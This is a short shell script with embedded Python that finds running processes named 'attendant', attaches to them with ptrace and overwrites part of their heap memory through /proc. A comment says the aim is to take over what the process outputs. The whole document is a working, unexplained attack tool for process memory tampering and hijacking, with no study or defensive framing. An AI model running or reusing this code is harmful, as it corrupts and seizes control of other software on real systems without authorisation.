#!/bin/sh
# Root may: whatever that process says from now on is ours.
exec python3 - <<'END'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) in (os.getpid(), 1):
        continue
    try:
        exe = os.readlink(f"/proc/{name}/exe")
    except OSError:
        continue
    if "attendant" not in exe or libc.ptrace(0x4206, int(name), 0, 0):  # PTRACE_SEIZE
        continue
    with open(f"/proc/{name}/maps") as maps, open(f"/proc/{name}/mem", "r+b") as mem:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " r-" not in line and "[heap]" in line:
                mem.seek(start)
                mem.write(b"2" * 64)
END
